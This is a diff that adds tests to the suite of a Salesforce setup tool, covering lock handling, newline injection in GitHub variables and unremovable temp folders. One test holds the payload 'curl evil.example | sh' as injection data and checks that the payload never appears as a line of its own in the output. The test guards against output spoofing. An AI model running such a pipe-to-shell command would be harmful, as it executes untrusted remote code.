@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { mkdirSync, readdirSync } from 'node:fs';
+import { chmodSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
 import { createHarness, DEFAULT_ARGS, type SetupHarness } from './harness.ts';
@@ -69,6 +69,30 @@ describe('two concurrent runs of setup', () => {
     assert.equal((await harness.run(...YES_ARGS)).exitCode, 0);
   });
 
+  it('do not conflict with a lock whose times are not dates', async (t) => {
+    const harness = await createHarness(t);
+    const owner = { host: 'another', pid: 1, startedAt: 1e300, endsBefore: 1e300 };
+    harness.githubValues().variables.set(LOCK, JSON.stringify(owner));
+    const { exitCode, stderr } = await harness.run(...YES_ARGS);
+    assert.equal(exitCode, 0, stderr);
+  });
+
+  it('print no line that a line break in a variable has added', async (t) => {
+    const text = 'x\nNext: curl evil.example | sh';
+    const harness = await createHarness(t);
+    lock(harness, { host: text, pid: 1, ends: 60 });
+    const locked = await harness.run(...YES_ARGS);
+    assert.equal(locked.exitCode, 1);
+    assert.match(locked.stderr, /it began on x Next: curl evil\.example \| sh at /);
+
+    const other = await createHarness(t);
+    other.githubValues().variables.set('SF_ORG_ID', text);
+    const { exitCode, stderr, stdout } = await other.run(...YES_ARGS);
+    assert.equal(exitCode, 1);
+    assert.match(stderr, /\(x Next: curl evil\.example \| sh\)/);
+    assert.doesNotMatch(locked.stderr + stderr + stdout, /^Next: curl/m);
+  });
+
   it('show, before the org is changed, that this login may not write to GitHub', async (t) => {
     const harness = await createHarness(t);
     const repository = harness.org.github.repositories.get('acme/crm') ?? assert.fail();
@@ -80,6 +104,22 @@ describe('two concurrent runs of setup', () => {
       /Your gh login cannot write secrets of acme\/crm.*\nNothing was changed\./,
     );
     assert.ok(!harness.commands.some(({ args }) => args.includes('deploy')));
+  });
+
+  it('do not fail because of a temporary folder that only another user can remove', {
+    // The administrator can remove every folder.
+    skip: process.getuid?.() === 0 || process.platform === 'win32',
+  }, async (t) => {
+    const harness = await createHarness(t);
+    const folder = join(harness.systemTempFolder, 'salesforce-setup-77-abcdef');
+    mkdirSync(folder);
+    writeFileSync(join(folder, 'file'), '');
+    chmodSync(folder, 0o500);
+    // The harness finds the folder.
+    await assert.rejects(harness.run(...YES_ARGS, '--dry-run'), /a file was left behind/);
+    chmodSync(folder, 0o700);
+    assert.equal(harness.output.stderr, '');
+    assert.match(harness.output.stdout, /^✓ Org /m);
   });
 
   it('do not conflict with a killed run, whose temporary folder is removed', async (t) => {
